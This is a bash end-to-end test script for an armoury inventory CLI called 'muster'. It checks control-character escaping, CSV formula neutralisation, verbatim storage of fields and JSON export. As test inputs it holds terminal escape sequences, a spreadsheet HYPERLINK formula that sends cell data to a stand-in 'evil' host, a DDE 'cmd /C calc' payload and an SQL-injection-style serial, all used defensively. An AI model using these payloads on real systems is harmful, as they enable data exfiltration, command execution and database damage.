#!/usr/bin/env bash
# test-output-cli.sh: what `muster` writes out and records as written (issue 10, rows 19
# and 20, and the "also" items on records kept as written and `--json item export`).
# One case per hole, each named after what it defends:
#   /cli/control-characters-escaped                  (row 19)
#   /csv/formula-neutralised-and-round-trip-exact    (row 20)
#   /items/fields-kept-as-written
#   /cli/json-item-export-is-json
# Every case runs on its own fresh database; the first failure stops the script.
source "$MUSTER_TESTS/e2e/lib.sh"

# Fails when a file holds a raw control character other than tab and newline (C0, DEL),
# a C1 control or a bidirectional override (as UTF-8), or an ESC anywhere.
assert_no_raw_controls() { # file what
  if LC_ALL=C grep -qP '[\x00-\x08\x0B-\x1F\x7F]|\xC2[\x80-\x9F]|\xE2\x80[\xAA-\xAE]|\xE2\x81[\xA6-\xA9]' "$1"; then
    od -c "$1" | head -20 >&2
    fail "$2: raw control characters reach the terminal"
  fi
}

fresh() {
  rm -f "$DB" "$DB"-*
  setup_armoury
}

HEADER=manufacturer,country_of_manufacture,serial,model,category,calibre,year,import_country,import_year,state_marking,frame_material,status,location,custodian,markings

case_control_characters_escaped() {
  fresh
  # A model with a right-to-left override (item fields refuse C0 and C1 themselves).
  printf '%s\r\nGlock,AT,GL-1,Glock\xe2\x80\xae71,pistol,,,,,,,in_store,R1/A/01,,\r\n' "$HEADER" >"$T/items.csv"
  MUSTER_PIN=123456 m item import --user admin "$T/items.csv" >/dev/null

  # Text that came from outside, quoted back in an error message.
  local osc=$'\e]0;pwned\a\e[2J'
  expect_status 4 item show "$osc"
  assert_no_raw_controls "$T/err" "item show, error quoting the query"
  assert_contains "$(cat "$T/err")" '\u001B]0;pwned\u0007\u001B[2J' "the query, escaped"

  # An item field, in the text record.
  m item show GL-1 >"$T/show" 2>&1
  assert_no_raw_controls "$T/show" "item show"
  assert_contains "$(cat "$T/show")" 'Glock\u202E71' "the model, escaped"

  # Scan lines with ESC, OSC, DEL and a C1 CSI, acknowledged on stdout.
  MUSTER_PIN=1234 MUSTER_WITNESS_PIN=1234 m --json count start --user bob --witness carol \
    --scope R1 >"$T/count.json"
  local count
  count=$(python3 -c 'import json,sys; print(json.load(sys.stdin)["uuid"])' <"$T/count.json")
  printf 'GL-1\n\e]8;;http://evil/\aGL-1\e]8;;\a\n\e[31mX\x7f\xc2\x9b2J\n' >"$T/feed"
  MUSTER_PIN=1234 m count scan --user bob "$count" <"$T/feed" >"$T/acks" 2>&1 ||
    { cat "$T/acks" >&2; fail "count scan"; }
  assert_no_raw_controls "$T/acks" "count scan"
  expect_status 4 history "$(printf '\e[31mX')" # nothing carries it: not found, said safely
  cat "$T/out" "$T/err" >"$T/history"
  assert_no_raw_controls "$T/history" "history"

  # JSON stays JSON, with the same values: its own escapes are used.
  m --json item show GL-1 >"$T/show.json"
  assert_no_raw_controls "$T/show.json" "item show --json"
  local model
  model=$(python3 -c 'import json,sys; print(json.load(sys.stdin)[0]["model"].encode("unicode_escape").decode())' <"$T/show.json")
  assert_eq 'Glock\u202e71' "$model" "the model in JSON"
}

case_formula_neutralised_and_round_trip_exact() {
  fresh
  # Formula starts (OWASP: = + - @ tab CR) and plain apostrophes. A cell a person
  # neutralised by hand ('=) is text to a spreadsheet, and imports without its apostrophe.
  python3 - "$T/in.csv" <<'EOF'
import csv, sys
rows = [
    ["Glock", "AT", "GL-1", '=HYPERLINK("http://evil/?"&A1,"click")', "pistol", "+1+1",
     "", "", "", "@SUM(1)", "-2+3", "in_store", "R1/A/01", "", ""],
    ["Glock", "AT", "GL-2", "'=1+1", "pistol", "'", "", "", "", "'plain", "it's",
     "in_store", "R1/A/02", "", ""],
    ["=Evil", "AT", "-GL-3", "Model 3", "rifle", "x", "", "", "", "", "", "issued", "",
     "@unit", ""],
]
with open(sys.argv[1], "w", newline="") as f:
    w = csv.writer(f, lineterminator="\r\n")
    w.writerow("manufacturer,country_of_manufacture,serial,model,category,calibre,year,import_country,import_year,state_marking,frame_material,status,location,custodian,markings".split(","))
    w.writerows(rows)
EOF
  MUSTER_PIN=123456 m item import --user admin "$T/in.csv" >/dev/null
  m --json item show GL-2 >"$T/gl2.json"
  assert_eq "=1+1" "$(python3 -c 'import json,sys; print(json.load(sys.stdin)[0]["model"])' <"$T/gl2.json")" \
    "a hand-neutralised cell"
  # Fields that really start with apostrophes before a formula character, as written.
  for v in "'=1+1" "''+cmd|' /C calc'!A0"; do
    MUSTER_PIN=123456 m item correct --user admin --field model --value "$v" --reason test GL-2 >/dev/null
    MUSTER_PIN=123456 m item correct --user admin --field calibre --value "$v" --reason test GL-2 >/dev/null
  done
  MUSTER_PIN=123456 m item correct --user admin --field state_marking --value $'\t=tab' --reason test GL-1 >/dev/null
  m item export "$T/out1.csv"
  # No cell of the export starts a formula in a spreadsheet.
  python3 - "$T/out1.csv" <<'EOF' || fail "a formula cell is exported as is"
import csv, sys
for row in csv.reader(open(sys.argv[1], newline="")):
    for cell in row:
        if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
            print("formula cell:", repr(cell)); sys.exit(1)
EOF
  # Import of the export gives back every field exactly, and exports the same bytes.
  m --json item export >"$T/before.json"
  rm -f "$DB" "$DB"-*
  setup_armoury
  MUSTER_PIN=123456 m item import --user admin "$T/out1.csv" >/dev/null
  m item export "$T/out2.csv"
  cmp "$T/out1.csv" "$T/out2.csv" || fail "export, import, export differ"
  m --json item export >"$T/after.json"
  python3 - "$T/before.json" "$T/after.json" <<'EOF' || fail "the round trip is not exact"
import json, sys
keys = ("manufacturer", "serial", "model", "calibre", "state_marking", "frame_material",
        "custodian", "status", "location")
strip = lambda items: [{k: i.get(k) for k in keys} for i in items]
before, after = (strip(json.load(open(p))) for p in sys.argv[1:3])
if before != after:
    print(before, after); sys.exit(1)
want = {"GL-1": ('=HYPERLINK("http://evil/?"&A1,"click")', "+1+1", "=tab", "-2+3"),  # fields are trimmed
        "GL-2": ("''+cmd|' /C calc'!A0", "''+cmd|' /C calc'!A0", "'plain", "it's"),
        "-GL-3": ("Model 3", "x", None, None)}
for i in after:
    got = (i["model"], i["calibre"], i["state_marking"], i["frame_material"])
    if got != want[i["serial"]]:
        print(i["serial"], got); sys.exit(1)
assert [i["manufacturer"] for i in after] == ["Glock", "Glock", "=Evil"]
assert after[2]["custodian"] == "@unit"
EOF
}

case_fields_kept_as_written() {
  fresh
  local serial="'); drop Table items;--"
  python3 - "$T/in.csv" "$serial" <<'EOF'
import csv, sys
with open(sys.argv[1], "w", newline="") as f:
    w = csv.writer(f, lineterminator="\r\n")
    w.writerow("manufacturer,country_of_manufacture,serial,model,category,status,location".split(","))
    w.writerow(["Heckler & Koch", "DE", sys.argv[2], "mp5 a3", "smg", "in_store", "R1/A/01"])
    w.writerow(["Glock", "AT", "gl-17 x", "g17", "pistol", "in_store", "R1/A/02"])
EOF
  MUSTER_PIN=123456 m item import --user admin "$T/in.csv" >/dev/null
  # Shown, exported and found as written, in any case.
  m --json item show "'); DROP TABLE ITEMS;--" >"$T/show.json"
  assert_eq "$serial" "$(python3 -c 'import json,sys; print(json.load(sys.stdin)[0]["serial"])' <"$T/show.json")" \
    "the serial shown"
  m item show "GL-17 X" >"$T/show.txt"
  assert_contains "$(cat "$T/show.txt")" "Glock g17 SN gl-17 x" "the text record"
  m item export "$T/out.csv"
  assert_contains "$(cat "$T/out.csv")" ",$serial," "the export"
  assert_contains "$(cat "$T/out.csv")" ",gl-17 x,g17," "the export"
  # The same serial written otherwise is a duplicate, against the records and in a file.
  printf 'manufacturer,country_of_manufacture,serial,model,category,status\r\nGlock,AT, GL-17 X ,g17,pistol,in_store\r\n' >"$T/dup.csv"
  MUSTER_PIN=123456 expect_status 3 item import --user admin "$T/dup.csv"
  assert_contains "$(cat "$T/err")" "already recorded" "a duplicate differing in case and spaces"
  printf 'manufacturer,country_of_manufacture,serial,model,category,status\r\nSIG,CH,p-1,x,pistol,in_store\r\nSIG,CH,P-1,x,pistol,in_store\r\n' >"$T/dup2.csv"
  MUSTER_PIN=123456 expect_status 3 item import --user admin "$T/dup2.csv"
  assert_contains "$(cat "$T/err")" "already on line 2" "a duplicate within one file"
  # A correction of only how it is written keeps the item found by it.
  MUSTER_PIN=123456 m item correct --user admin --field serial --value "GL-17 X" \
    --reason "as engraved" "gl-17 x" >/dev/null
  m item show "gl-17 x" >"$T/show2.txt"
  assert_contains "$(cat "$T/show2.txt")" "SN GL-17 X" "the corrected serial"
}

case_json_item_export_is_json() {
  fresh
  MUSTER_PIN=123456 m item import --user admin "$MUSTER_TEST_DATA/small-armoury.csv" >/dev/null
  local n
  n=$(m item export | python3 -c 'import csv,sys; print(sum(1 for _ in csv.reader(sys.stdin)) - 1)')
  m --json item export >"$T/items.json"
  m item export --json "$T/items2.json"
  cmp "$T/items.json" "$T/items2.json" || fail "--json to stdout and to a file differ"
  python3 - "$T/items.json" "$n" <<'EOF' || fail "--json item export is not a JSON array of items"
import json, sys
items = json.load(open(sys.argv[1]))
assert isinstance(items, list) and len(items) == int(sys.argv[2]), len(items)
for i in items:
    assert i["uuid"] and i["serial"] and i["status"], i
    assert any(m["kind"] == "engraved_serial" for m in i["markings"]), i
assert any(m["kind"] == "hf_uid" for i in items for m in i["markings"])
EOF
  rm -f "$DB" "$DB"-*
  setup_armoury
  assert_eq $'[\n]' "$(m --json item export)" "an empty export"
}

status=0
for c in control_characters_escaped formula_neutralised_and_round_trip_exact \
         fields_kept_as_written json_item_export_is_json; do
  name=${c//_/-}
  case $c in
    control_*|json_*) path=/cli/$name ;;
    formula_*) path=/csv/$name ;;
    *) path=/items/$name ;;
  esac
  # A subshell of its own, not tested by if: set -e must stay in force inside it.
  set +e
  ( set -e; "case_$c" )
  rc=$?
  set -e
  if [ "$rc" = 0 ]; then echo "ok - $path"; else echo "not ok - $path"; status=1; fi
done
exit $status
